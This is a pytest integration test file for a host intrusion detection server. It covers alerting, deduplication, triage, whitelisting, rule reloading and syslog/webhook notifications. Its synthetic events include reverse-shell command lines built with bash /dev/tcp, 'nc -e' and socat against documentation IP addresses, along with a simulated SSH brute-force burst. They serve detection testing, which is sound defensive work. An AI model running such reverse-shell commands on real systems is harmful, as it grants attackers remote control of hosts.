"""End to end: an enrolled agent-like sender (real mTLS gRPC) -> a real ``elkeid server`` process ->
alerts in the API, de-duplicated, triaged, whitelisted; rules reloaded through the API and the
rules directory; notifications to a real HTTP receiver and a real syslog listener."""

from __future__ import annotations

import json
import secrets

import httpx
import pytest

from tests._support import ServerProcess, wait_until
from tests.integration._agent_stream import AgentStream
from tests.integration._manager import admin, analyst, check_schema, new_id, openapi, start_with_users  # noqa: F401 - fixtures
from tests.unit.server.notify._receivers import HttpReceiver, TcpSyslogReceiver

SHELL = "bash -c bash -i >& /dev/tcp/203.0.113.5/4444 0>&1"
RULE = """rules:
  - id: {rid}
    name: {rid} started
    severity: medium
    data_type: execve
    match: {{field: exe, endswith: /{exe}}}
"""


@pytest.fixture(scope="module")
def receivers():
    with HttpReceiver() as http, TcpSyslogReceiver() as syslog:
        yield http, syslog


@pytest.fixture(scope="module", params=["sqlite", pytest.param("postgresql", marks=pytest.mark.postgres)])
def mserver(request, tmp_path_factory, receivers) -> ServerProcess:
    """The module's server (the admin, analyst and openapi fixtures use it), sending alerts to both receivers."""
    http, syslog = receivers
    srv = start_with_users(request, tmp_path_factory, "alerts", (
        "--rules-poll", "0.2", "--notify", http.url, "--notify", f"syslog+tcp://127.0.0.1:{syslog.port}?min_severity=high"))
    yield srv
    srv.stop()


def alerts(api: httpx.Client, **params) -> list[dict]:
    r = api.get("/api/v1/alerts", params={"page_size": 500, **params})
    assert r.status_code == 200, r.text
    return r.json()["items"]


def wait_alerts(api: httpx.Client, n: int = 1, timeout: float = 30, **params) -> list[dict]:
    return wait_until(lambda: len(found := alerts(api, **params)) >= n and found, timeout, 0.1,
                      f"{n} alerts for {params}")  # fmt: skip


def records_evaluated(api: httpx.Client) -> int:
    return api.get("/api/v1/engine/status").json()["runner"]["records"]


def settle(api: httpx.Client, sent_before: int, n: int) -> None:
    """Wait until the engine has evaluated ``n`` more records than ``sent_before``."""
    wait_until(lambda: records_evaluated(api) >= sent_before + n, 30, 0.1, "the engine to evaluate the records")


def test_reverse_shell_raises_an_alert_with_the_chain_from_earlier_events(mserver, admin, receivers, openapi):
    http, syslog = receivers
    agent = new_id("web")
    with AgentStream(mserver, agent) as stream:
        stream.send(59, {"pid": "900", "ppid": "1", "exe": "/usr/sbin/sshd", "argv": "sshd: deploy [priv]",
                         "pid_tree": "900.sshd<1.systemd", "username": "root"})  # fmt: skip
        stream.send(59, {"pid": "950", "ppid": "900", "exe": "/usr/bin/bash", "argv": "-bash",
                         "pid_tree": "950.bash<900.sshd<1.systemd", "username": "deploy"})  # fmt: skip
        stream.send(59, {"pid": "990", "ppid": "950", "exe": "/usr/bin/bash", "argv": SHELL, "username": "deploy",
                         "pid_tree": "990.bash<950.bash<900.sshd<1.systemd"})  # fmt: skip
        [item] = wait_alerts(admin, agent_id=agent)
    alert = admin.get(f"/api/v1/alerts/{item['id']}").json()
    check_schema(openapi, "Alert", alert)
    assert (alert["rule_id"], alert["severity"], alert["hostname"]) == ("reverse_shell_dev_tcp", "critical", "probe")
    assert alert["attack"] == ["T1059.004"] and alert["rule"]["file"] == "<default>/reverse_shell.yaml"
    assert [(c["pid"], c["argv"], c["source"]) for c in alert["process_chain"]] == [
        ("990", SHELL, "event"), ("950", "-bash", "execve"), ("900", "sshd: deploy [priv]", "execve"),
        ("1", "", "pid_tree")]  # fmt: skip
    # Both sinks given by --notify received it: the webhook (JSON) and syslog over TCP (RFC 5424).
    wait_until(lambda: any(json.loads(r["body"])["alert"]["id"] == item["id"] for r in http.requests), 20, 0.1,
               "the webhook")  # fmt: skip
    wait_until(lambda: any(agent.encode() in f and b'rule_id="reverse_shell_dev_tcp"' in f for f in syslog.frames), 20,
               0.1, "the syslog frame")  # fmt: skip
    frame = next(f for f in syslog.frames if agent.encode() in f)
    assert frame.startswith(b"<130>1 ")  # local0 (16) * 8 + critical (2)


def test_ssh_brute_force_from_one_address(mserver, admin):
    agent = new_id("bastion")
    with AgentStream(mserver, agent) as stream:
        for i in range(12):
            stream.send(4000, {"status": "false", "types": "password", "user": "root", "sip": "198.51.100.7",
                               "sport": str(40000 + i), "invalid": "false"})  # fmt: skip
        [alert] = wait_alerts(admin, agent_id=agent)
    assert alert["rule_id"] == "ssh_bruteforce_single_source" and alert["severity"] == "high"
    assert alert["frequency"]["value"] == 10 and alert["frequency"]["group"] == {"agent_id": agent, "sip": "198.51.100.7"}
    assert alert["event"]["sport"] == "40009"  # the event that reached the threshold; the 2 after start again


def test_repeats_raise_the_count_and_triage_keeps_history(mserver, admin, analyst):
    agent = new_id("db")
    with AgentStream(mserver, agent) as stream:
        before = records_evaluated(admin)
        for _ in range(3):
            stream.send(59, {"pid": "77", "exe": "/usr/bin/nc", "argv": "nc -e /bin/sh 203.0.113.7 9001"})
        settle(admin, before, 3)
        [alert] = wait_alerts(admin, agent_id=agent)
        assert alert["count"] == 3 and alert["last_seen"] >= alert["first_seen"]
        path = f"/api/v1/alerts/{alert['id']}/status"
        assert analyst.post(path, json={"status": "acknowledged", "comment": "on it"}).status_code == 200
        assert analyst.post(path, json={"status": "resolved", "comment": "host rebuilt"}).status_code == 200
        r = analyst.post(path, json={"status": "acknowledged"})
        assert r.status_code == 409 and "resolved can go to open" in r.json()["error"]["message"]
        history = admin.get(f"/api/v1/alerts/{alert['id']}").json()["history"]
        assert [(h["by"], h["to"], h["comment"]) for h in history] == [("analyst", "acknowledged", "on it"),
                                                                       ("analyst", "resolved", "host rebuilt")]
        # The next detection after the end of an alert opens a new one.
        stream.send(59, {"pid": "78", "exe": "/usr/bin/nc", "argv": "nc -e /bin/sh 203.0.113.7 9001"})
        found = wait_alerts(admin, 2, agent_id=agent)
    assert sorted((a["status"], a["count"]) for a in found) == [("open", 1), ("resolved", 3)]


def test_whitelist_from_an_alert_silences_the_next_matching_event(mserver, admin, analyst):
    agent = new_id("ci")
    event = {"pid": "31", "exe": "/tmp/build-42/runner", "argv": "/tmp/build-42/runner --job 7", "p_exe": "/usr/bin/make"}
    with AgentStream(mserver, agent) as stream:
        stream.send(59, event)
        [alert] = wait_alerts(admin, agent_id=agent, rule_id="exec_from_tmp")
        r = analyst.post(f"/api/v1/alerts/{alert['id']}/whitelist",
                         json={"fields": ["exe"], "comment": "CI builds run here"})  # fmt: skip
        assert r.status_code == 200, r.text
        before = records_evaluated(admin)
        stream.send(59, event)
        stream.send(59, dict(event, exe="/tmp/other/tool", argv="/tmp/other/tool"))  # not whitelisted: alerts
        settle(admin, before, 2)
        wait_alerts(admin, 2, agent_id=agent, rule_id="exec_from_tmp")
    found = {a["event"]["exe"]: a["count"] for a in alerts(admin, agent_id=agent, rule_id="exec_from_tmp")}
    assert found == {"/tmp/build-42/runner": 1, "/tmp/other/tool": 1}
    wl = admin.get(f"/api/v1/rules/{r.json()['whitelist']['id']}").json()
    assert wl["hits"] == 1 and wl["kind"] == "whitelist"


def test_rules_uploaded_through_the_api_take_effect_and_bad_ones_change_nothing(mserver, admin):
    agent = new_id("api-rules")
    rid = f"custom_{secrets.token_hex(3)}"
    r = admin.post("/api/v1/rules/files", data={"name": f"{rid}.yaml"},
                   files={"file": ("x.yaml", RULE.format(rid=rid, exe="frobnicate"))})  # fmt: skip
    assert r.status_code == 200, r.text
    bad = RULE.format(rid=rid + "_b", exe="zap") + "  - {id: x, severity: loud, data_type: 59, match: {field: a, equals: b}}\n"
    r = admin.post("/api/v1/rules/files", data={"name": f"{rid}.yaml"}, files={"file": ("x.yaml", bad)})
    assert r.status_code == 400
    [error] = r.json()["errors"]
    assert (error["file"], error["line"], error["code"]) == (f"<api>/{rid}.yaml", 7, "E115")
    with AgentStream(mserver, agent) as stream:
        stream.send(59, {"pid": "5", "exe": "/usr/local/bin/frobnicate"})  # the first version still runs
        [alert] = wait_alerts(admin, agent_id=agent)
    assert alert["rule_id"] == rid


def test_the_rules_directory_is_watched_and_a_bad_file_keeps_the_running_set(mserver, admin):
    agent = new_id("dir-rules")
    rid = f"dir_{secrets.token_hex(3)}"
    path = mserver.data_dir / "rules" / f"{rid}.yaml"
    path.write_text(RULE.format(rid=rid, exe="wibble"))
    wait_until(lambda: admin.get(f"/api/v1/rules/{rid}").status_code == 200, 20, 0.1, "the new rule")
    assert admin.get("/api/v1/rules/status").json()["last_reload"]["trigger"] == "directory"
    path.write_text(RULE.format(rid=rid, exe="wibble") + "    frequency: {window: soon, threshold: 3}\n")
    wait_until(lambda: admin.get("/api/v1/rules/status").json()["last_reload"]["ok"] is False, 20, 0.1, "a refusal")
    [error] = admin.get("/api/v1/rules/status").json()["last_reload"]["errors"]
    assert (error["file"], error["line"], error["code"]) == (str(path), 7, "E140")
    with AgentStream(mserver, agent) as stream:
        stream.send(59, {"pid": "5", "exe": "/opt/wibble"})  # the old set is still in force
        [alert] = wait_alerts(admin, agent_id=agent)
    assert alert["rule_id"] == rid
    path.unlink()
    wait_until(lambda: admin.get(f"/api/v1/rules/{rid}").status_code == 404, 20, 0.1, "the rule to go")


def test_open_alerts_keep_counting_across_a_restart(fresh_server):
    fresh_server.start()
    agent = new_id("restart")
    event = {"pid": "8", "exe": "/usr/bin/socat", "argv": "socat exec:/bin/sh tcp:203.0.113.8:443"}
    with fresh_server.api() as api:
        with AgentStream(fresh_server, agent) as stream:
            stream.send(59, event)
            [first] = wait_alerts(api, agent_id=agent)
    fresh_server.stop()
    fresh_server.start()
    with fresh_server.api() as api:
        with AgentStream(fresh_server, agent) as stream:
            stream.send(59, event)
            wait_until(lambda: alerts(api, agent_id=agent)[0]["count"] == 2, 30, 0.1, "the repeat to count")
        assert [a["id"] for a in alerts(api, agent_id=agent)] == [first["id"]]


def test_notification_sinks_from_flags_are_listed_with_counters(mserver, admin, analyst, receivers):
    assert analyst.get("/api/v1/notifications").status_code == 403
    body = admin.get("/api/v1/notifications").json()
    assert [(s["source"], s["url"].split(":")[0]) for s in body["sinks"]] == [("flag", "http"), ("flag", "syslog+tcp")]
    assert body["sinks"][0]["stats"]["sent"] >= 1 and body["totals"]["dropped"] == 0
    r = admin.put("/api/v1/notifications", json={"sinks": [{"url": receivers[0].url}]})
    assert r.status_code == 400 and "two sinks are named" in r.json()["error"]["message"]
    assert len(admin.get("/api/v1/notifications").json()["sinks"]) == 2  # the flag sinks stay
